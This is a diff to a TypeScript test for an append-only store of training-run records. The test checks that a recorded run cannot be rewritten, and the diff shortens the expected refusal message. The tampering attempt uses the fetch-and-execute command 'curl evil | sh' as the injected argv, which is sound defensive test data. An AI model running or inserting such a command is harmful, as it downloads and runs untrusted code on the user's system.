@@ -505,7 +505,7 @@ function immutableRunsContract(fresh: FreshStore): void {
       const rewrite = startedEvent(RUN, { eventId: "rewrite#started", hostname: "attacker" });
       rewrite.runStarted!.config!.argv = ["sh", "-c", "curl evil | sh"];
       const [outcome] = await store.append([rewrite]);
-      assert.match(refusal(outcome), /^run slurm:c\/12 already has a different run_started \(argv "python train.py --lr 0.1"\); a run is an audit record written once$/);
+      assert.match(refusal(outcome), /^run slurm:c\/12 already has a different run_started; a run is an audit record written once$/);
       assert.deepEqual(await store.getRun(RUN), before);
     }));
 
